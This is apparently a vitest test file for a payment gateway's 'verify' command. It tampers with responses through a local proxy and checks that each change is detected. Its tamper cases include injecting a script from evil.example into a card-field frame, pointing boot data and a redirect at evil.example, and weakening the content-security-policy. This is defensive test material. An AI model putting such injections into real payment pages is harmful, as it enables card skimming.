import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { createServer, request, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { buffer } from "node:stream/consumers";
import { brotliDecompressSync, gunzipSync, gzipSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commandLine } from "../../../src/gateway/cli/commands/command-line.ts";
import { readConfig } from "../../../src/gateway/config/config.ts";
import { makeKeyRing } from "../../../src/gateway/crypto/key-ring.ts";
import { serve, type Running } from "../../../src/gateway/serve.ts";
import { removeFolder } from "../../support/remove-folder.ts";
import { fakeBuild } from "../../support/fake-build.ts";

/** A response on its way to the browser. */
interface Passing {
  path: string;
  dest: string;
  status: number;
  headers: IncomingHttpHeaders;
  body: Buffer;
}
type Tamper = (passing: Passing) => void;

let folder: string;
let config: string;
let gateway: Running;
let between: Server;
let url: string;
let tamper: Tamper;

/** A proxy between the gateway and its browsers, which an attacker may control. */
function proxy(): Server {
  return createServer((incoming, outgoing) => {
    const { method, url: path = "", headers } = incoming;
    request({ port: gateway.port, host: "127.0.0.1", method, path, headers }, (answer) => {
      void buffer(answer).then((body) => {
        const dest = String(headers["sec-fetch-dest"]);
        const passing = { path, dest, status: answer.statusCode!, headers: { ...answer.headers }, body };
        tamper(passing);
        delete passing.headers["content-length"];
        outgoing.writeHead(passing.status, passing.headers).end(passing.body);
      });
    }).end();
  });
}

async function verify(...more: string[]) {
  const lines: string[] = [];
  const progress: string[] = [];
  const errors: string[] = [];
  const status = await commandLine(["verify", "--config", config, "--url", url, ...more], {
    print: (line) => lines.push(line),
    progress: (line) => progress.push(line),
    printError: (line) => errors.push(line),
  });
  return { status, lines, progress, errors };
}

/** Decompresses the body and changes it. */
function rewrite(passing: Passing, change: (text: string) => string): void {
  const coding = passing.headers["content-encoding"];
  const decompress = coding === "br" ? brotliDecompressSync : coding === "gzip" ? gunzipSync : undefined;
  const body = decompress ? decompress(passing.body) : passing.body;
  delete passing.headers["content-encoding"];
  passing.body = Buffer.from(change(body.toString("latin1")), "latin1");
}

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), "verify-"));
  config = join(folder, "gateway.json");
  const build = join(folder, "build");
  fakeBuild(build);
  mkdirSync(join(build, "assets/locales"), { recursive: true });
  writeFileSync(join(build, "assets/locales/de.json"), '{"card.number":"Kartennummer"}');
  makeKeyRing(join(folder, "keys.json"));
  const merchant = (id: string, origins: string[], more: object = {}) => {
    return { id, passwords: [{ sha256: createHash("sha256").update(id).digest("hex") }], origins, ...more };
  };
  writeFileSync(
    config,
    JSON.stringify({
      demo: true,
      port: 0,
      data: folder,
      build,
      originProof: "off",
      keys: { file: join(folder, "keys.json") },
      merchants: [
        merchant("SHOP1", ["https://shop.example", "https://www.shop.example"]),
        merchant("PLUGIN", ["https://plugin.example"], { disclose: { protocol: true } }),
      ],
    }),
    { mode: 0o640 },
  );
  gateway = await serve(readConfig(config), { log: () => undefined });
  between = proxy();
  await new Promise<void>((resolve) => between.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(between.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await gateway.close();
  between.closeAllConnections();
  between.close();
  removeFolder(folder);
});

const PASSED: [string, Tamper][] = [
  ["unchanged", () => undefined],
  [
    "compressed differently, with the headers of a proxy",
    (passing) => {
      rewrite(passing, (text) => text);
      passing.body = gzipSync(passing.body);
      Object.assign(passing.headers, { "content-encoding": "gzip", "via": "1.1 edge", "age": "12" });
    },
  ],
];

const isFrame = ({ path, status }: Passing) => path.includes("/field?") && status === 200;

const TAMPERED: [string, RegExp, Tamper][] = [
  [
    "an additional script in a frame document",
    /\/merchant\/SHOP1\/field\?o=.*: has different bytes/,
    (passing) => {
      if (isFrame(passing))
        rewrite(passing, (text) => `${text}<script src="https://evil.example/x.js"></script>`);
    },
  ],
  [
    "the frame document of one origin only",
    /SHOP1\/field\?o=https%3A%2F%2Fwww\.shop\.example: has different bytes/,
    (passing) => {
      if (passing.path.includes("www.shop")) rewrite(passing, (text) => text.replace("boot", "b00t"));
    },
  ],
  [
    "boot data that name another gateway",
    /PLUGIN\/protocol-field\?o=.*: has different bytes/,
    (passing) => {
      if (passing.path.includes("/protocol-field?"))
        rewrite(passing, (text) => text.replace('"gateway":"http', '"gateway":"https://evil.example/?http'));
    },
  ],
  [
    "markup in place of the token",
    /field\?o=.*: has different bytes/,
    (passing) => {
      if (isFrame(passing)) rewrite(passing, (text) => text.replace(/"frameToken":"[^"]*/, "$&</script><b>"));
    },
  ],
  [
    "the elements' script",
    /^FAIL \/hosted-session\.js: has different bytes/m,
    (passing) => {
      if (passing.path === "/hosted-session.js") rewrite(passing, (text) => `${text}//`);
    },
  ],
  [
    "session.js",
    /merchant\/PLUGIN\/session\.js: has different bytes/,
    (passing) => {
      if (passing.path.endsWith("/session.js")) rewrite(passing, (text) => `${text}//`);
    },
  ],
  [
    "a text",
    /^FAIL \/assets\/locales\/de\.json: has different bytes/m,
    (passing) => {
      if (passing.path.endsWith("de.json")) rewrite(passing, (text) => text.replace("Karten", "Konto"));
    },
  ],
  [
    "a weaker policy",
    /has a different header content-security-policy: .*unsafe-inline/,
    (passing) => {
      if (isFrame(passing))
        passing.headers["content-security-policy"] = String(
          passing.headers["content-security-policy"],
        ).replace("script-src", "script-src 'unsafe-inline'");
    },
  ],
  [
    "a missing policy",
    /has no header content-security-policy/,
    (passing) => void delete passing.headers["content-security-policy"],
  ],
  [
    "a second policy",
    /has a different header content-security-policy: .*, default-src \*/,
    (passing) => {
      const policy = passing.headers["content-security-policy"];
      Object.assign(passing.headers, { "content-security-policy": [policy, "default-src *"] });
    },
  ],
  [
    "a cookie",
    /has an additional header set-cookie: track=1/,
    (passing) => void (passing.headers["set-cookie"] = ["track=1"]),
  ],
  [
    "frames that every page may read",
    /field\?o=.*: has an additional header access-control-allow-origin: \*/,
    (passing) => {
      if (isFrame(passing)) passing.headers["access-control-allow-origin"] = "*";
    },
  ],
  [
    "a frame for an unregistered page",
    /field\?o=https%3A%2F%2Fstranger\.invalid: has status 200 instead of 403/,
    (passing) => {
      if (passing.path.includes("stranger")) passing.status = 200;
    },
  ],
  [
    "a frame document in a tab of its own",
    /field\?o=https%3A%2F%2Fshop\.example: has status 200 instead of \d+/,
    (passing) => {
      if (passing.dest === "document") passing.status = 200;
    },
  ],
  [
    "a redirect",
    /hosted-session\.js: has status 302 instead of 200/,
    (passing) => {
      passing.status = 302;
      passing.headers.location = "https://evil.example/";
    },
  ],
  [
    "a content coding that was not requested",
    /cannot be fetched: its Content-Encoding was not requested/,
    (passing) => void (passing.headers["content-encoding"] = "zstd"),
  ],
  [
    "an endless response",
    /cannot be fetched: it has more than/,
    (passing) => {
      if (passing.path === "/hosted-session.js") rewrite(passing, () => "x".repeat(8_100_000));
    },
  ],
];

describe("verify", () => {
  it.each(PASSED)("passes a gateway whose responses are %s", async (_, way) => {
    tamper = way;
    const { status, lines, progress } = await verify();
    expect(lines).toEqual([`ok   ${url}: 18 responses are those of this release`]);
    expect(progress.at(-1)).toBe(`${url}: 18 of 18`);
    expect(status).toBe(0);
  });

  it.each(TAMPERED)("detects %s", async (_, message, way) => {
    tamper = way;
    const { status, lines } = await verify();
    expect(lines.join("\n")).toMatch(message);
    expect(lines.at(-1)).toMatch(/^FAIL .* of 18 responses differ from this release$/);
    expect(status).toBe(1);
  });

  it("prints only plain text of a response on a terminal", async () => {
    tamper = (passing) => void (passing.headers["x-note"] = `\u009b31m${"long ".repeat(100)}`);
    const { lines } = await verify();
    expect(lines[0]).toMatch(/has an additional header x-note: \?31mlong/);
    for (const line of lines) expect(line).toMatch(/^[ -~…]{1,500}$/);
  });

  it("fails once when there is no gateway", async () => {
    const { status, lines } = await verify("--url", "http://127.0.0.1:1");
    expect(lines).toEqual([
      "FAIL http://127.0.0.1:1: cannot be reached (ECONNREFUSED); nothing was compared",
    ]);
    expect(status).toBe(1);
  });

  it("sends no request to an origin that is not configured", async () => {
    const { status, errors } = await verify("--url", "https://pay.example");
    expect(errors.join()).toContain("https://pay.example: this configuration does not have this origin");
    expect(status).toBe(1);
  });

  it.each(["pay.example", "ftp://pay.example", "https://pay.example/shop", "https://user@pay.example"])(
    "accepts an origin, and not %s",
    async (address) => {
      const { status, errors } = await verify("--url", address);
      expect(errors.join()).toContain("--url must be an origin, such as https://pay.example");
      expect(status).toBe(2);
    },
  );
});
